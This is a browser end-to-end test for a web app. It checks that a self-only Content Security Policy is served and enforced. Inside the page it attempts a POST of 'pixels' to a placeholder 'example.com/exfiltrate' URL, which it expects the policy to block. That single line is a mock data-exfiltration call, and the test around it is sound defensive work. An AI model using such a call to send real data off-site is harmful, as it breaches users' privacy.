/**
 * Privacy: the page carries a CSP that allows its own origin only (as a header from `vite preview`
 * and as a <meta> for static hosts), and the browser enforces it: a fetch elsewhere is refused.
 */
import { expect, inject, test } from 'vitest';
import { appUrl, waitForBackend } from './app-page.ts';
import { launch } from './browser.ts';

const baseUrl = inject('baseUrl');

test('a CSP of self only, enforced in the page', async () => {
  const header = (await fetch(baseUrl)).headers.get('content-security-policy') ?? '';
  expect(header).toMatch(/default-src 'self'/);
  expect(header).toMatch(/connect-src 'self'/);
  expect(header).toMatch(/script-src 'self' 'wasm-unsafe-eval'(;|$)/);
  const browser = await launch();
  try {
    const page = await browser.newPage();
    const requests: string[] = [];
    page.on('request', (r) => requests.push(r.url()));
    await page.goto(appUrl(baseUrl, 'draw', 'wasm'));
    await waitForBackend(page);
    const meta = await page.locator('meta[http-equiv="Content-Security-Policy"]').getAttribute('content');
    expect(meta).toMatch(/default-src 'self'/);
    const outcome = await page.evaluate(async () => {
      const violations: string[] = [];
      document.addEventListener('securitypolicyviolation', (e) => violations.push(e.violatedDirective));
      try {
        await fetch('https://example.com/exfiltrate', { method: 'POST', body: 'pixels' });
        return { fetched: true, violations };
      } catch {
        await new Promise((r) => setTimeout(r, 100));
        return { fetched: false, violations };
      }
    });
    expect(outcome.fetched).toBe(false);
    expect(outcome.violations).toContain('connect-src');
    expect(requests.filter((u) => !u.startsWith(baseUrl))).toEqual([]);
  } finally {
    await browser.close();
  }
});
